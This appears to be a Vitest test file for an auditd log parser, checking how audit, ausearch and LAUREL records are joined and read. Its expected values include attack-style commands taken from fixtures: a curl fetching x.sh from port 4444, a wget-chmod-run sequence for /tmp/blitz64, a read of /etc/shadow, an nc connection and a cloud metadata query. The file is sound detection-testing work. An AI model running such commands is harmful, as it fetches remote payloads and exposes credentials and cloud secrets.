import { describe, expect, it } from 'vitest';
import { ingestClean, itClaimsOnlyItsFixtures } from '../../../helpers/format-fixtures.js';
import { fixture, ingestFile } from '../../../helpers/ingest.js';

const NAME = 'auditd';
const own = (f: string) => fixture(NAME, f);

describe('auditd', () => {
  itClaimsOnlyItsFixtures(NAME);

  it('parse() joins SYSCALL, SOCKADDR, EXECVE, CWD and PATH records of one event', async () => {
    const path = own('go-libaudit-normal.log');
    const r = await ingestFile(path);
    expect(r.issues).toEqual([]);
    expect(r.events.map((e) => e.ref.line)).toEqual([1, 3, 8, 13, 17]);
    const first = r.events[0]!;
    expect(first).toMatchObject({
      kind: 'audit',
      source: 'audit',
      format: NAME,
      timeMs: 1492037289295,
      timeRaw: '1492037289.295',
      ref: { path, line: 1 },
      operation: 'connect',
      actor: '0',
      dst: { ip: '169.254.169.254', port: 80 },
      action: 'error',
      errorCode: 'EINPROGRESS',
      fields: { exe: '/usr/bin/python2.7;58d1ccfb (deleted)', comm: 'google_accounts', pid: '1172', ppid: '1', syscall: '42', success: 'no', exit: '-115', saddrFamily: 'inet', recordTypes: 'SYSCALL,SOCKADDR' },
    });
    expect(first.host).toBeUndefined();
    expect(first.fields!.authzDenied).toBeUndefined();
    expect(r.events[1]).toMatchObject({ operation: 'execve', command: 'grep --color=auto mapping', actor: '1000', action: 'allow', fields: { cwd: '/home/andrew_kroh', key: 'user_commands', paths: '/usr/bin/grep /lib64/ld-linux-x86-64.so.2' } });
    expect(r.events[3]).toMatchObject({ operation: 'connect', fields: { saddrFamily: 'local', unixPath: 'public/pickup' } });
    expect(r.events[3]!.dst).toBeUndefined();
    const last = r.events[4]!;
    expect(last).toMatchObject({ timeMs: 1492037298883, ref: { path, line: 17 }, operation: 'accept', actor: '89', action: 'allow', fields: { exe: '/usr/libexec/postfix/pickup', exit: '11' } });
    expect(last.message).toBe('accept /usr/libexec/postfix/pickup');
  });

  it('parse() reads real SYSCALL-only logs with exact counts and a failed execve', async () => {
    const r = await ingestFile(own('crowdsec-auditd-logs.log'));
    expect(r.issues).toEqual([]);
    expect(r.events.map((e) => [e.ref.line, e.fields!.comm, e.action, e.errorCode ?? null])).toEqual([
      [1, 'perl', 'allow', null],
      [2, 'base64', 'allow', null],
      [3, 'perl', 'error', 'ENOENT'],
      [4, 'id', 'allow', null],
    ]);
    const net = await ingestFile(own('crowdsec-auditd-exec-from-net.log'));
    expect(net.issues).toEqual([]);
    expect(net.events.map((e) => e.fields!.exe)).toEqual(['/usr/bin/wget', '/bin/chmod', '/tmp/blitz64']);
  });

  it('parse() reads the record-type catalog and skips only the stamp-less UNKNOWN record', async () => {
    const path = own('go-libaudit-audit-rhel7.log');
    const r = await ingestFile(path);
    expect(r.issues).toEqual([{ path, line: 31, message: 'audit record without an audit(time:serial) stamp' }]);
    expect(r.events).toHaveLength(47);
    const byLine = new Map(r.events.map((e) => [e.ref.line, e]));
    // NETFILTER_CFG (line 18) and its SYSCALL (line 27) share the stamp 1481076984.827:17
    expect(byLine.get(18)).toMatchObject({ operation: 'finit_module', fields: { recordTypes: 'NETFILTER_CFG,SYSCALL', table: 'filter', comm: 'modprobe' } });
    expect(byLine.has(27)).toBe(false);
    expect(byLine.get(11)!.fields!.cwd).toBe('/tmp/a b c');
    expect(byLine.get(24)).toMatchObject({ operation: 'SOCKADDR', src: { ip: '::', port: 22 }, fields: { saddrFamily: 'inet6' } });
    expect(byLine.get(26)).toMatchObject({ fields: { saddrFamily: 'local', unixPath: '/var/run/nscd/socket' } });
    expect(byLine.get(34)).toMatchObject({ operation: 'USER_CMD', command: './metricbeat -c mb.dev.yml', actor: '1000' });
    expect(byLine.get(36)).toMatchObject({ operation: 'USER_ERR', action: 'error', errorCode: 'failed', src: { ip: '190.48.233.76' } });
    expect(byLine.get(36)!.actor).toBe('0'); // acct="?" and auid unset: the process uid
    expect(byLine.get(5)).toMatchObject({ operation: 'CRED_ACQ', actor: 'andrew_kroh', fields: { op: 'PAM:setcred', res: 'success' } });
    expect(byLine.get(50)).toMatchObject({ operation: 'CONFIG_CHANGE', timeRaw: '1492749467.018', fields: { key: 'pam', op: 'add_rule' } });
  });

  it('parse() reads enriched records behind an audispd syslog header', async () => {
    const path = own('synthetic-enriched-syslog.log');
    const r = await ingestClean(path, 4);
    expect(r.events[0]).toMatchObject({
      timeMs: 1715684101512,
      ref: { path, line: 1 },
      host: 'sandbox-host',
      operation: 'connect',
      actor: 'agent',
      command: 'curl -s http://198.51.100.10:4444/x.sh',
      dst: { ip: '198.51.100.10', port: 4444 },
      action: 'allow',
      fields: { UID: 'agent', AUID: 'agent', key: 'net_connect', recordTypes: 'SYSCALL,SOCKADDR,PROCTITLE' },
    });
    expect(r.events[1]).toMatchObject({ ref: { line: 5 }, operation: 'execve', command: 'sh -c "echo \\"hi there\\" | base64" 0123456789abcdefghij', fields: { cwd: '/home/agent/work', exe: '/usr/bin/dash' } });
    expect(r.events[2]).toMatchObject({ ref: { line: 10 }, operation: 'openat', action: 'error', errorCode: 'EACCES', fields: { paths: '/etc/shadow', authzDenied: true } });
    expect(r.events[3]).toMatchObject({ ref: { line: 12 }, operation: 'connect', errorCode: 'ECONNREFUSED', command: 'nc 2001:db8::1 22', dst: { ip: '2001:db8::1', port: 22 } });
  });

  it('parse() reads ausearch -i output, dates in --tz', async () => {
    const path = own('synthetic-ausearch-interpreted.log');
    const r = await ingestClean(path, 2, { tz: 'Europe/Paris' });
    expect(r.events[0]).toMatchObject({
      timeMs: Date.parse('2024-05-14T08:56:00.100Z'),
      timeRaw: '05/14/2024 10:56:00.100',
      ref: { path, line: 2 },
      operation: 'connect',
      errorCode: 'EACCES',
      command: 'curl -s http://169.254.169.254/latest/meta-data/',
      dst: { ip: '169.254.169.254', port: 80 },
      actor: 'agent',
      fields: { exit: 'EACCES(Permission denied)' },
    });
    expect(r.events[1]).toMatchObject({ operation: 'USER_AUTH', action: 'error', errorCode: 'failed', actor: 'root', src: { ip: '203.0.113.200' } });
  });

  it('parse() reads LAUREL JSON lines as the same format', async () => {
    const path = own('crowdsec-laurel-logs.jsonl');
    const r = await ingestClean(path, 6);
    expect(r.container).toBe('jsonl');
    expect(r.events[0]).toMatchObject({
      timeMs: 1688048710843,
      timeRaw: '1688048710.843',
      ref: { path, line: 1 },
      operation: 'execve',
      actor: 'root',
      command: '/usr/sbin/nft -j list set ip crowdsec crowdsec-blacklists',
      action: 'allow',
      fields: { exe: '/usr/sbin/nft', key: 'sbin_susp', pid: '11021', syscall: '59', UID: 'root' },
    });
    expect(r.events[4]).toMatchObject({ actor: 'vagrant', command: 'tail -n5 /var/log/laurel/audit.log' });
    expect(r.events[5]).toMatchObject({ ref: { line: 6 }, operation: 'ANOM_ABEND', timeRaw: '1696506989.042', fields: { exe: '/usr/bin/su' } });
  });

  it('parse() skips exactly the damaged lines', async () => {
    const r = await ingestFile(own('broken-lines.log'));
    expect(r.issues.map((i) => i.line)).toEqual([3, 8, 13]);
    expect(r.events.map((e) => e.ref.line)).toEqual([1, 4, 11, 17, 21]);
    expect(r.events[2]).toMatchObject({ command: 'cat securitybeat', fields: { cwd: '/home/andrew_kroh' } });
  });
});
